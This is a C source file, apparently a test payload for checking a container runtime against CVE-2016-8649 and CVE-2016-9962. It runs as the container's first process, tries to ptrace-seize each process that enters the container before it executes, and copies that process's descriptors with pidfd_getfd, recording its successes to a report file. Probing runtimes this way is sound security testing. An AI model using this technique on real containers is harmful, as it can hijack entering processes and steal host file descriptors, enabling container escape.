// SPDX-License-Identifier: Apache-2.0
// seize REPORT: the first process of a container, which tries to trace, and to take descriptors from, every process that appears
// beside it before that process has executed its program (CVE-2016-8649, CVE-2016-9962).
//
// REPORT holds, at any time: how many processes were seen while they could not be traced, and how many gave in.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int report;
static long refused, seized, taken;

static void say(void) {
    char text[128];
    int length = snprintf(text, sizeof text, "refused %ld seized %ld taken %ld\n", refused, seized, taken);
    if (pwrite(report, text, (size_t)length, 0) != length) _exit(1);
}

// Whether a process that is traced now stops and then executes a program: it was caught before that. One that is caught while the
// kernel finishes the execution, with the old program and its descriptors gone already, shows the execution as its first stop.
static int executes(int pid) {
    int status, stops = 0, found = 0;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    for (; waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status); stops++) {
        int event = status >> 16;
        if (event == PTRACE_EVENT_EXEC && stops > 0) found = 1;
        ptrace(PTRACE_CONT, pid, 0, event || WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status));
    }
    return found;
}

// Descriptors above the standard streams that are no plain files: a program's libraries are its own affair.
static int takes(int pid) {
    int handle = (int)syscall(SYS_pidfd_open, pid, 0), found = 0;
    for (int number = 3; handle >= 0 && number < 10; number++) {
        int copy = (int)syscall(SYS_pidfd_getfd, handle, number, 0);
        struct stat status;
        if (copy >= 0 && fstat(copy, &status) == 0 && !S_ISREG(status.st_mode)) found = 1;
        if (copy >= 0) close(copy);
    }
    if (handle >= 0) close(handle);
    return found;
}

// The highest number given to a process so far, which is that of a new one.
static int newest(void) {
    int pid = fork();
    if (pid == 0) _exit(0);
    if (pid < 0 || waitpid(pid, NULL, 0) != pid) _exit(3);
    return pid;
}

int main(int count, char **words) {
    if (count < 2 || (report = open(words[1], O_RDWR | O_CREAT | O_TRUNC, 0600)) < 0) return 2;
    say();
    // The payload has number 1, and each attached process gets a higher number; one that was missed must not be waited for. More than
    // are looked for ahead can go by while this process does not run: after a few milliseconds of nothing it finds out where they are.
    for (int next = getpid() + 1, ahead = 0, wasSeen = 0, misses = 0;;) {
        int pid = next + ahead;
        int result = ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACEEXEC);
        if (result != 0 && errno == EPERM) {
            if (!wasSeen) refused++;
            if (!wasSeen) say();
            wasSeen = 1;
            if (takes(pid)) taken++;
            continue;
        }
        if (result == 0 && executes(pid)) seized++;
        if (result == 0 || wasSeen) {
            say();
            next = pid + 1;
            ahead = wasSeen = misses = 0;
        } else if (++misses < 20000) {
            ahead = (ahead + 1) % 8;
        } else {
            next = newest() + 1;
            ahead = misses = 0;
        }
    }
}
